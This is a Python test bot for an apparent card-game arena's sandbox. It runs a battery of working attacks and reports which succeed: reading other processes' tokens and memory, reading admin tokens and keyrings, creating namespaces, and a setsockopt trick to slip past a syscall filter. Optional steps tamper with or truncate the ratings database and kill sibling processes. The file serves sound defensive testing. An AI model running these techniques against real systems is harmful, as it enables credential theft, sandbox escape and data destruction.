"""A hostile bot: it tries every attack a stranger's bot has tried on the arena, reports what
each one got, then plays its seat honestly so that the match can finish.

Usage: ``hostile.py REPORT DATA_DIR VICTIM_PORT [--destructive]``, run by the arena like any
bot (``BISCA_ADDRESS`` and ``BISCA_TOKEN`` in its environment).  ``REPORT`` is where the JSON
report goes (in the sandbox that folder is read-only, so the report also goes to stdout, which
the arena keeps in ``seatN.stdout.log``).  ``DATA_DIR`` is the arena's data directory (the
worst case: the attacker knows it); ``VICTIM_PORT`` a TCP port on 127.0.0.1 where the test
listens.  ``--destructive`` adds the attacks that would damage the arena if they worked
(rewriting the store, truncating it, killing other processes).

Each attack records ``{"got": bool, "detail": str}``: ``got`` is true when it succeeded.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import json
import mmap
import os
import signal
import socket
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

from bisca.client import run
from bisca.client.bots import make_bot

#: What the sandbox gives every bot (bwrap sets PWD to the folder it starts in).
#: What the arena gives a bot (BISCA_SEED: the seed of its own randomness, from the match's).
OWN_ENV = {"BISCA_ADDRESS", "BISCA_TOKEN", "BISCA_SEED", "PATH", "HOME", "LANG", "PWD"}


def other_pids() -> list[int]:
    own = {os.getpid(), os.getppid()}
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in own]


def steal_tokens() -> tuple[bool, str]:
    """1. Other bots' one-time tokens from /proc/PID/environ."""
    mine = os.environ.get("BISCA_TOKEN", "")
    stolen = []
    for pid in other_pids():
        try:
            data = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        for item in data.split(b"\0"):
            if item.startswith(b"BISCA_TOKEN=") and item[12:].decode() != mine:
                stolen.append(item[12:].decode())
    return bool(stolen), f"{len(stolen)} token(s) of other processes; {len(other_pids())} pids seen"


def store_of(data: Path) -> Path:
    return data / "bisca.sqlite3"


def rewrite_rating(data: Path) -> tuple[bool, str]:
    """2. Set our own rating to mu 99 in the store."""
    try:
        db = sqlite3.connect(f"file:{store_of(data)}?mode=rw", uri=True, timeout=1)
        db.execute(
            "INSERT INTO ratings (game, bot, mu, sigma, matches, result_mean, result_m2, "
            "updated_at) VALUES ('belote', 'hostile', 99, 0.3, 1, 0, 0, 'x')"
        )
        db.commit()
        db.close()
    except (sqlite3.Error, OSError) as problem:
        return False, f"{type(problem).__name__}: {problem}"
    return True, "wrote a rating of 99 into the store"


def truncate_store(data: Path) -> tuple[bool, str]:
    """3. Truncate the store with its -wal and -shm files."""
    done = []
    for suffix in ("", "-wal", "-shm"):
        path = f"{store_of(data)}{suffix}"
        try:
            os.truncate(path, 0)
            done.append(path)
        except OSError as problem:
            last = f"{type(problem).__name__}: {problem}"
    return bool(done), f"truncated {done}" if done else last


def environment() -> tuple[bool, str]:
    """4a. The operator's environment (BISCA_ADMIN_TOKEN and every other variable)."""
    extra = sorted(set(os.environ) - OWN_ENV)
    return bool(extra), f"variables beyond our own: {extra[:8]}"


def arena_open_files() -> tuple[bool, str]:
    """4b. Find the data directory from the arena's open files (/proc/PPID/fd)."""
    found = []
    for pid in [os.getppid(), *other_pids()]:
        for fd in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                target = os.readlink(fd)
            except OSError:
                continue
            if "sqlite3" in target or ".binlog" in target:
                found.append(target)
    return bool(found), f"data files among other processes' fds: {found[:3]}"


def read_secrets(data: Path) -> tuple[bool, str]:
    """4c. spectator.token, admin.token, a live .binlog.partial, the seeds in the store."""
    read = []
    for name in ("spectator.token", "admin.token", "server.key"):
        try:
            (data / name).read_bytes()
            read.append(name)
        except OSError:
            pass
    for path in glob.glob(str(data / "matches" / "*" / "*.binlog*")):
        try:
            Path(path).read_bytes()
            read.append(Path(path).name)
        except OSError:
            pass
    try:
        db = sqlite3.connect(f"file:{store_of(data)}?mode=ro", uri=True, timeout=1)
        seeds = db.execute("SELECT seed FROM matches").fetchall()
        db.close()
        read.append(f"{len(seeds)} seeds")
    except (sqlite3.Error, OSError):
        pass
    return bool(read), f"read {read}"


def scan_memory() -> tuple[bool, str]:
    """4d. Scan the arena's memory (/proc/PPID/mem) for the admin token."""
    for pid in [os.getppid(), *other_pids()]:
        try:
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.read(1)
            return True, f"opened /proc/{pid}/mem"
        except OSError:
            continue
    return False, "no other process's memory could be opened"


def connect_out(port: int) -> tuple[bool, str]:
    """5a. Connect to other ports on 127.0.0.1 (the test's victim port)."""
    with socket.socket() as probe:
        probe.settimeout(2)
        code = probe.connect_ex(("127.0.0.1", port))
    return code == 0, f"connect to 127.0.0.1:{port}: {os.strerror(code) if code else 'connected'}"


def many_processes() -> tuple[bool, str]:
    """5b. Start 50 processes."""
    started = []
    try:
        for _ in range(50):
            started.append(subprocess.Popen(["sleep", "30"]))
    except OSError as problem:
        detail = f"{len(started)} started, then {type(problem).__name__}: {problem}"
    else:
        detail = "50 started"
    for process in started:
        process.kill()
        process.wait()
    return len(started) >= 50, detail


def much_memory() -> tuple[bool, str]:
    """5c. Touch 4 GiB of memory."""
    try:
        block = mmap.mmap(-1, 4 << 30)
        for offset in range(0, len(block), 1 << 20):
            block[offset] = 1
        block.close()
    except (OSError, MemoryError, ValueError) as problem:
        return False, f"{type(problem).__name__}: {problem}"
    return True, "4 GiB touched"


def kill_siblings() -> tuple[bool, str]:
    """5d. Kill another bot with SIGKILL."""
    killed = []
    for pid in other_pids():
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
    return bool(killed), f"killed {killed}" if killed else "no other process could be signalled"


#: x86-64 system call numbers (the arena's machine) and the flags the probes use.
SYS = {
    "add_key": 248,
    "keyctl": 250,
    "unshare": 272,
    "clone": 56,
    "io_uring_setup": 425,
    "setsockopt": 54,
}
KEYCTL_READ = 11
KEY_SPEC_SESSION_KEYRING = -3
CLONE_NEWUSER, CLONE_NEWNS, SIGCHLD = 0x10000000, 0x00020000, 17
SECRET_DESCRIPTION = b"bisca-arena-secret"
IPC_PRIVATE, IPC_CREAT, IPC_RMID = 0, 0o1000, 0


def syscall(name: str, *args: object) -> tuple[int, int]:
    """A raw system call: its result and errno."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(SYS[name], *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return result, ctypes.get_errno()


def read_keyring() -> tuple[bool, str]:
    """6a. The arena's session keyring (inherited) and the secrets in it."""
    buffer = ctypes.create_string_buffer(4096)
    size, code = syscall("keyctl", KEYCTL_READ, KEY_SPEC_SESSION_KEYRING, buffer, 4096)
    if size < 0:
        return False, f"keyctl read of the session keyring: {os.strerror(code)}"
    keys = [int.from_bytes(buffer.raw[i : i + 4], "little") for i in range(0, min(size, 4096), 4)]
    read = []
    for key in keys:
        payload = ctypes.create_string_buffer(4096)
        length, _ = syscall("keyctl", KEYCTL_READ, key, payload, 4096)
        if length >= 0:
            read.append(payload.raw[:length].decode(errors="replace"))
    return bool(read), f"{len(keys)} key(s) in the session keyring, read: {read[:3]}"


def add_key() -> tuple[bool, str]:
    """6b. Add a key to the session keyring."""
    key, code = syscall("add_key", b"user", b"hostile", b"x", 1, KEY_SPEC_SESSION_KEYRING)
    return key >= 0, f"add_key: {key if key >= 0 else os.strerror(code)}"


def user_namespace_mount() -> tuple[bool, str]:
    """6c. A user namespace of our own, and a mount inside it (in a child: the bot itself
    stays where it is)."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        result, code = syscall("unshare", CLONE_NEWUSER | CLONE_NEWNS)
        if result != 0:
            os.write(writer, f"unshare(CLONE_NEWUSER | CLONE_NEWNS): {os.strerror(code)}".encode())
            os._exit(1)
        libc = ctypes.CDLL(None, use_errno=True)
        mounted = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
        detail = "mounted a tmpfs" if mounted == 0 else os.strerror(ctypes.get_errno())
        os.write(writer, f"a user namespace of our own; mount: {detail}".encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as answer:
        detail = answer.read()
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status) == 0, detail


def clone_namespace() -> tuple[bool, str]:
    """6d. clone() into a new user namespace (the raw call: like fork, the child returns 0)."""
    pid, code = syscall("clone", CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid < 0:
        return False, f"clone(CLONE_NEWUSER): {os.strerror(code)}"
    os.waitpid(pid, 0)
    return True, f"a child in a new user namespace ({pid})"


def io_uring() -> tuple[bool, str]:
    """6e. Set up an io_uring (I/O past the calls a filter sees)."""
    params = ctypes.create_string_buffer(120)
    fd, code = syscall("io_uring_setup", 4, params)
    if fd < 0:
        return False, f"io_uring_setup: {errno.errorcode.get(code, code)} {os.strerror(code)}"
    os.close(fd)
    return True, "an io_uring of our own"


def sysv_shared_memory() -> tuple[bool, str]:
    """6f. A System V shared memory segment: memory no process of the bot maps once detached,
    kept until the sandbox ends (removed at once here)."""
    libc = ctypes.CDLL(None, use_errno=True)
    ident = libc.shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0o600)
    if ident < 0:
        code = ctypes.get_errno()
        return False, f"shmget: {errno.errorcode.get(code, code)} {os.strerror(code)}"
    libc.shmctl(ident, IPC_RMID, None)
    return True, f"a shared memory segment of our own ({ident})"


def memfd() -> tuple[bool, str]:
    """6g. A memfd: pages written to it and not mapped are in no process's memory."""
    try:
        fd = os.memfd_create("hostile")
    except OSError as problem:
        return False, f"memfd_create: {errno.errorcode.get(problem.errno or 0, '')} {problem}"
    os.close(fd)
    return True, "a memfd of our own"


FALLOC_FL_KEEP_SIZE, FALLOC_FL_PUNCH_HOLE = 0x01, 0x02
RESERVED = 16 << 20


def disk_behind_output() -> tuple[bool, str]:
    """7a. Reserve 16 MiB of the arena's disk behind our own stdout (a file the arena opened in
    its data directory) without growing it: ``RLIMIT_FSIZE`` bounds sizes only.  Given back
    at once when it worked."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
    sys.stdout.flush()
    before = os.fstat(1)
    if libc.fallocate(1, FALLOC_FL_KEEP_SIZE, before.st_size, RESERVED) != 0:
        code = ctypes.get_errno()
        return False, f"fallocate: {errno.errorcode.get(code, code)} {os.strerror(code)}"
    after = os.fstat(1)
    grown = (after.st_blocks - before.st_blocks) * 512
    punch = FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE
    libc.fallocate(1, punch, before.st_size, RESERVED)
    return grown >= RESERVED, f"{grown >> 20} MiB reserved, size {after.st_size}"


def socket_buffers() -> tuple[bool, str]:
    """7b. Grow a socket's send buffer past the system's default: what waits in it is kernel
    memory, in no process's (80 socket pairs so held 1.2 GiB).  Asked plainly, and as a raw
    call whose ``level`` has high bits set (the kernel reads an ``int``: still ``SOL_SOCKET``,
    which got past a filter comparing all 64 bits)."""
    said = []
    value = ctypes.c_int(4 << 20)
    for name, level in (("plainly", socket.SOL_SOCKET), ("with high bits", 1 << 32 | 1)):
        with socket.socket(socket.AF_UNIX) as probe:
            default = probe.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF)
            result, code = syscall(
                "setsockopt", probe.fileno(), level, socket.SO_SNDBUF, ctypes.byref(value), 4
            )
            size = probe.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF)
        said.append(f"{name}: {os.strerror(code) if result else f'{default} -> {size} bytes'}")
    return any("->" in line for line in said), "; ".join(said)


def pseudo_terminal() -> tuple[bool, str]:
    """7c. A pseudo-terminal: ptys come from the host's shared pool (``kernel.pty.max``),
    which a bot holding thousands would empty for everyone on the machine."""
    try:
        leader, follower = os.openpty()
    except OSError as problem:
        return False, f"openpty: {problem}"
    os.close(leader)
    os.close(follower)
    return True, "a pseudo-terminal of our own"


def own_session() -> tuple[bool, str]:
    """7d. A session of its own (``setsid``, in a child): where the kernel's autogroups are on,
    each session is weighed as one, so forty of them took forty shares of the machine."""
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
        except OSError as problem:
            os._exit(problem.errno or 1)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    code = os.waitstatus_to_exitcode(status)
    return code == 0, "setsid: " + ("a session of our own" if code == 0 else os.strerror(code))


def main() -> None:
    report_path, data, port = Path(sys.argv[1]), Path(sys.argv[2]), int(sys.argv[3])
    destructive = "--destructive" in sys.argv
    attacks: dict[str, Callable[[], tuple[bool, str]]] = {
        "tokens of other bots": steal_tokens,
        "operator environment": environment,
        "data directory from open files": arena_open_files,
        "tokens, live logs and seeds": lambda: read_secrets(data),
        "arena memory": scan_memory,
        "other ports on 127.0.0.1": lambda: connect_out(port),
        "50 processes": many_processes,
        "4 GiB of memory": much_memory,
        "session keyring secret": read_keyring,
        "add a key": add_key,
        "user namespace and mount": user_namespace_mount,
        "clone into a namespace": clone_namespace,
        "io_uring": io_uring,
        "System V shared memory": sysv_shared_memory,
        "a memfd": memfd,
        "disk behind its output": disk_behind_output,
        "socket buffers": socket_buffers,
        "a pseudo-terminal": pseudo_terminal,
        "a session of its own": own_session,
    }
    if destructive:
        attacks |= {
            "rating of 99 in the store": lambda: rewrite_rating(data),
            "truncate the store": lambda: truncate_store(data),
            "kill a sibling bot": kill_siblings,
        }
    report = {}
    for name, attack in attacks.items():
        try:
            got, detail = attack()
        except Exception as problem:  # an attack that fails in an unexpected way did not work
            got, detail = False, f"{type(problem).__name__}: {problem}"
        report[name] = {"got": got, "detail": detail}
    text = json.dumps(report)
    print(text, flush=True)
    with contextlib.suppress(OSError):  # read-only in the sandbox: stdout has the report
        report_path.write_text(text)
    run(make_bot("belote", "random", 1), name="hostile", games=["belote"])


if __name__ == "__main__":
    main()
